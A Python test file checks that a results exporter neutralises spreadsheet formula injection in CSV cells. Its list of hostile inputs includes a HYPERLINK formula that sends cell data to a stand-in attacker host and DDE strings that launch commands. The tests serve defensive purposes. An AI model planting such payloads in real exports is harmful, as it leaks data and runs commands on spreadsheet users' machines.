"""CSV cells a spreadsheet would run as formulas (issue 25, finding 5): text beginning with
= + - @, a tab or a carriage return gets a leading apostrophe, in the one writer every CSV file
uses; numbers, negative ones too, stay numbers."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from orchestrator.results import export

PACKAGE = Path(export.__file__).resolve().parents[1]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_formula_text_is_neutralised_and_numbers_stay_numbers() -> None:
    text = export.csv_text(["a", "=b"], [[*HOSTILE, -5, -2.5, 0, "plain", "a-b", None]])
    header, row = parsed(text)
    assert header == ["a", "'=b"]
    assert row[: len(HOSTILE)] == ["'" + cell.replace("\r", "\n") for cell in HOSTILE]
    assert row[len(HOSTILE) :] == ["-5", "-2.5", "0", "plain", "a-b", ""]


def test_the_export_neutralises_what_came_from_the_store_and_json_keeps_it() -> None:
    point: dict[str, object] = {column: None for column in export.COLUMNS}
    point.update(reason="=cmd|' /C calc'!A0", server_name="@evil", reply_rate=-1.5, replies=3)
    header, row = parsed(export.render([point], "csv"))
    cells = dict(zip(header, row, strict=True))
    assert cells["reason"] == "'=cmd|' /C calc'!A0" and cells["server_name"] == "'@evil"
    assert cells["reply_rate"] == "-1.5" and cells["replies"] == "3"
    # JSON is data, not a spreadsheet: unchanged.
    assert json.loads(export.render([point], "json"))[0]["reason"] == "=cmd|' /C calc'!A0"


def test_every_csv_file_is_written_by_the_one_writer() -> None:
    """A second CSV writer would be a second place to forget the rule."""
    users = [
        path.relative_to(PACKAGE).as_posix()
        for path in sorted(PACKAGE.rglob("*.py"))
        if re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.MULTILINE)
    ]
    assert users == ["results/export.py"]
